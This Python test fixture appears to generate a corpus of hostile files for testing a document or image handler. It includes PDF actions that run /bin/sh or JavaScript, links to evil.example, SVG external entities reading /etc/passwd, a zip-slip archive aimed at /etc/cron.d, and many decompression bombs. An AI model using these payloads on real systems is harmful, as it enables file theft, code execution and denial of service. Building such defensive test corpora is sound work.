# ruff: noqa: E501 - files written by hand, one object after the other
"""Files as nobody means well sends them: each is small, and none names anything but this machine."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image


def pdf(
    objects: list[bytes], root: str = "1 0 R", *, trailer: bytes = b"", xref: bytes | None = None
) -> bytes:
    """A PDF of hand-written objects, numbered from 1; the cross-reference table is right unless given."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += table if xref is None else xref
    out += b"trailer\n<</Size %d/Root %s%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, root.encode(), trailer, start,
    )  # fmt: skip
    return bytes(out)


def stream(content: bytes, entries: bytes = b"", length: int | None = None) -> bytes:
    size = len(content) if length is None else length
    return b"<</Length %d%s>>stream\n%s\nendstream" % (size, entries, content)


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>"
DRAW = stream(b"0 0 100 100 re f")


def _acting(action: bytes, *, on: str = "open") -> bytes:
    catalog, page = CATALOG, PAGE
    if on == "open":
        catalog = CATALOG[:-2] + b"/OpenAction " + action + b">>"
    elif on == "page":
        page = PAGE[:-2] + b"/AA<</O " + action + b">>>>"
    else:
        page = PAGE[:-2] + b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A " + action + b">>]>>"
    return pdf([catalog, PAGES, page, DRAW])


def _bomb(megabytes: int, layers: int = 1) -> bytes:
    packed = zlib.compressobj(9)
    content = b"".join([*(packed.compress(b" " * 1_000_000) for _ in range(megabytes)), packed.flush()])
    for _ in range(layers - 1):
        content = zlib.compress(content, 9)
    return content


def _chunk(kind: bytes, content: bytes) -> bytes:
    body = kind + content
    return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))


def png(width: int, height: int, content: bytes = b"", *extra: bytes, depth: bytes = b"\x08\x02") -> bytes:
    head = _chunk(b"IHDR", struct.pack(">II", width, height) + depth + b"\x00\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + _chunk(b"IDAT", content) + _chunk(b"IEND", b"")


def _picture(form: str, size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 20, 30)).save(out, form)
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def files(url: str, marker: str) -> Iterator[tuple[str, bytes]]:
    """Name and content. ``url`` counts who asks; ``marker`` is a path that nobody may create."""
    site, path = url.encode(), marker.encode()
    script = b"<</S/JavaScript/JS(app.launchURL\\('%s'\\);this.submitForm\\('%s'\\))>>" % (site, site)
    launch = b"<</S/Launch/F(/bin/sh)/Unix<</F(/bin/sh)/P(-c 'touch %s')>>>>" % path
    for on in ("open", "page", "link"):
        yield f"pdf script on {on}", _acting(script, on=on)
        yield f"pdf launch on {on}", _acting(launch, on=on)
        yield f"pdf uri on {on}", _acting(b"<</S/URI/URI(%s)>>" % site, on=on)
    yield "pdf submit", _acting(b"<</S/SubmitForm/F(%s)/Flags 4>>" % site)
    yield "pdf import", _acting(b"<</S/ImportData/F(%s)>>" % path)
    yield "pdf go to remote", _acting(b"<</S/GoToR/F(//evil.example/share/x.pdf)/D[0/Fit]>>")
    yield (
        "pdf named script",
        pdf([CATALOG[:-2] + b"/Names<</JavaScript<</Names[(a)%s]>>>>>>" % script, PAGES, PAGE, DRAW]),
    )
    yield "pdf xfa", pdf(
        [CATALOG[:-2] + b"/AcroForm<</XFA 5 0 R/Fields[]>>>>", PAGES, PAGE, DRAW,
         stream(b"<xdp:xdp><script>xfa.host.gotoURL('%s')</script></xdp:xdp>" % site)]
    )  # fmt: skip
    yield (
        "pdf external stream",
        pdf([CATALOG, PAGES, PAGE, b"<</Length 0/F(%s)/FFilter/FlateDecode>>stream\n\nendstream" % site]),
    )
    yield "pdf embedded program", pdf(
        [CATALOG[:-2] + b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>]>>>>>>",
         PAGES, PAGE, DRAW, stream(b"MZ\x90\x00" * 20)]
    )  # fmt: skip
    yield "pdf bomb", pdf([CATALOG, PAGES, PAGE, stream(_bomb(300), b"/Filter/FlateDecode")])
    yield (
        "pdf bomb in layers",
        pdf([CATALOG, PAGES, PAGE, stream(_bomb(900, 3), b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")]),
    )
    yield "pdf image bomb", pdf(
        [CATALOG, PAGES, PAGE[:-2] + b"/Resources<</XObject<</I 5 0 R>>>>>>", stream(b"200 0 0 200 0 0 cm /I Do"),
         stream(_bomb(100), b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
                            b"/ColorSpace/DeviceRGB/Filter/FlateDecode")]
    )  # fmt: skip
    yield "pdf page tree of itself", pdf([CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"])
    yield "pdf parent of itself", pdf([CATALOG, PAGES, b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>"])
    yield "pdf two million pages", pdf([CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2000000>>", PAGE, DRAW])
    yield "pdf fewer than no pages", pdf([CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count -1>>", PAGE, DRAW])
    yield "pdf huge page", pdf([CATALOG, PAGES, PAGE.replace(b"200 200", b"99999999999 9999999999"), DRAW])
    yield "pdf page of nothing", pdf([CATALOG, PAGES, PAGE.replace(b"0 0 200 200", b"0 0 0 0"), DRAW])
    yield "pdf page upside down", pdf([CATALOG, PAGES, PAGE.replace(b"0 0 200 200", b"200 200 0 0"), DRAW])
    yield "pdf page of words", pdf([CATALOG, PAGES, PAGE.replace(b"0 0 200 200", b"(a)(b)(c)null"), DRAW])
    yield "pdf long arrays", pdf([CATALOG, PAGES, PAGE, stream(b"[" * 200_000)])
    yield (
        "pdf deep dictionaries",
        pdf([CATALOG[:-2] + b"/X" + b"<</X" * 5000 + b" 1" + b">>" * 5000 + b">>", PAGES, PAGE, DRAW]),
    )
    yield "pdf length that lies", pdf([CATALOG, PAGES, PAGE, stream(b"0 0 1 1 re f", length=2**31 - 1)])
    yield "pdf length before nothing", pdf([CATALOG, PAGES, PAGE, stream(b"0 0 1 1 re f", length=-5)])
    yield "pdf length of itself", pdf([CATALOG, PAGES, PAGE, b"<</Length 4 0 R>>stream\nq Q\nendstream"])
    yield "pdf graphics stack", pdf([CATALOG, PAGES, PAGE, stream(b"q " * 500_000)])
    yield (
        "pdf many strokes",
        pdf(
            [
                CATALOG,
                PAGES,
                PAGE,
                stream(zlib.compress(b"0 0 m 200 200 l S\n" * 400_000), b"/Filter/FlateDecode"),
            ]
        ),
    )
    yield "pdf dashes without end", pdf([CATALOG, PAGES, PAGE, stream(b"[0.00001] 0 d 0 0 m 9999999 9 l S")])
    yield "pdf table that points nowhere", pdf([CATALOG, PAGES, PAGE, DRAW], xref=b"xref\n0 99999999\n")
    yield "pdf table before itself", pdf([CATALOG, PAGES, PAGE, DRAW], trailer=b"/Prev 9")
    yield "pdf without a root", pdf([CATALOG, PAGES, PAGE, DRAW], root="77 0 R")
    yield "pdf only a head", b"%PDF-1.7\n"
    yield "pdf and program at once", b"MZ\x90\x00\n" + pdf([CATALOG, PAGES, PAGE, DRAW])
    yield "pdf and archive at once", pdf([CATALOG, PAGES, PAGE, DRAW]) + _zip({"a": b"x"})
    outline = CATALOG[:-2] + b"/Outlines 5 0 R>>"
    yield (
        "pdf bookmark of itself",
        pdf(
            [
                outline,
                PAGES,
                PAGE,
                DRAW,
                b"<</First 6 0 R/Last 6 0 R>>",
                b"<</Title(a)/Parent 5 0 R/Next 6 0 R/First 6 0 R>>",
            ]
        ),
    )
    yield "pdf font of itself", pdf(
        [CATALOG, PAGES, PAGE[:-2] + b"/Resources<</Font<</F 5 0 R>>>>>>", stream(b"BT /F 9 Tf (a) Tj ET"),
         b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 4 0 R>>/Resources<</Font<</F 5 0 R>>>>>>"]
    )  # fmt: skip
    yield "pdf function without end", pdf(
        [CATALOG, PAGES, PAGE[:-2] + b"/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceGray"
         b"/Domain[0 1e9 0 1e9]/Function 5 0 R>>>>>>>>", stream(b"/S sh"),
         stream(b"{" * 3000 + b"}" * 3000, b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]")]
    )  # fmt: skip
    yield "pdf jbig2 that lies", pdf(
        [CATALOG, PAGES, PAGE[:-2] + b"/Resources<</XObject<</I 5 0 R>>>>>>", stream(b"9 0 0 9 0 0 cm /I Do"),
         stream(b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13\xff\xff\xff\xff\xff\xff\xff\xff" + bytes(12),
                b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode")]
    )  # fmt: skip
    yield "png of 50,000 by 50,000", png(50_000, 50_000, _bomb(20))
    yield "png of four billion", png(2**32 - 1, 2**32 - 1)
    yield "png of nothing", png(0, 0)
    yield "png without content", png(100, 100)
    yield "png with too much", png(10, 10, _bomb(200))
    yield (
        "png with a long text",
        png(1, 1, zlib.compress(b"\x00abc"), _chunk(b"zTXt", b"a\x00\x00" + _bomb(200))),
    )
    yield (
        "png with a large profile",
        png(1, 1, zlib.compress(b"\x00abc"), _chunk(b"iCCP", b"a\x00\x00" + _bomb(100))),
    )
    yield "png chunk that lies", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 2**31) + b"IHDR" + bytes(20)
    jpeg = _picture("JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    yield "jpeg of 65,500 by 65,500", jpeg[:at] + b"\xff\xdc\xff\xdc" + jpeg[at + 4 :]
    yield "jpeg cut", jpeg[: len(jpeg) // 2]
    yield (
        "jpeg with exif without end",
        jpeg[:2] + b"\xff\xe1\xff\xffExif\x00\x00" + b"II*\x00\x08\x00\x00\x00" * 9000,
    )
    webp = _picture("WEBP")
    yield "webp cut", webp[: len(webp) // 2]
    yield "webp size that lies", webp[:4] + b"\xff\xff\xff\xff" + webp[8:]
    yield "tiff of itself", b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00"
    entry = b"".join(
        struct.pack("<HHII", tag, 4, 1, value) for tag, value in ((256, 10**9), (257, 10**9), (259, 5))
    )
    yield "tiff of a billion", b"II*\x00\x08\x00\x00\x00\x03\x00" + entry + bytes(4)
    yield "gif", _picture("GIF")
    yield (
        "bmp of two billion",
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0),
    )
    head = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    uses = b"".join(
        b'<g id="g%d">%s</g>' % (n, b'<use xlink:href="#g%d"/>' % (n - 1) * 10) for n in range(1, 9)
    )
    for name, body in (
        ("reference", b'<image xlink:href="%s/x.png" width="9" height="9"/>' % site),
        ("script", b"<script>fetch('%s')</script>" % site),
        ("style", b"<style>@import url('%s/x.css');</style>" % site),
        ("bomb", b'<g id="g0"><rect width="9" height="9"/></g>' + uses + b'<use xlink:href="#g8"/>'),
        ("file", b'<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
        (
            "foreign",
            b"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='%s'/></foreignObject>" % site,
        ),
    ):
        yield f"svg {name}", head + body + b"</svg>"
    yield (
        "svg entities",
        (
            b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
            + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
            + b"]><svg>&j;</svg>"
        ),
    )
    yield (
        "svg external entity",
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + head + b"&x;</svg>",
    )
    yield "svgz", gzip.compress(head + b"</svg>")
    yield "zip bomb", _zip({"a": bytes(100_000_000)})
    yield "zip that climbs", _zip({"../../" + marker: b"x", "/etc/cron.d/x": b"x", "..\\..\\x": b"x"})
    yield "zip in zip", _zip({"a.zip": _zip({"b.zip": _zip({"c": bytes(10_000_000)})})})
    yield (
        "office with macros",
        _zip({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    )
    yield "html", b"<html><script>location='%s'</script><img src='%s/x'></html>" % (site, site)
    yield "postscript", b"%!PS-Adobe-3.0\n(" + path + b") (w) file closefile showpage\n"
    yield "shell", b"#!/bin/sh\ntouch " + path + b"\n"
    yield "shortcut", b"[InternetShortcut]\r\nURL=file://evil.example/share/x\r\n"
    yield "old office", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    yield "zeros", bytes(100_000)
    yield "one byte", b"%"


def controls() -> Iterator[tuple[str, bytes]]:
    """Files that must be shown."""
    yield "pdf", pdf([CATALOG, PAGES, PAGE, DRAW])
    for form in ("PNG", "JPEG", "WEBP", "TIFF"):
        yield form.lower(), _picture(form)
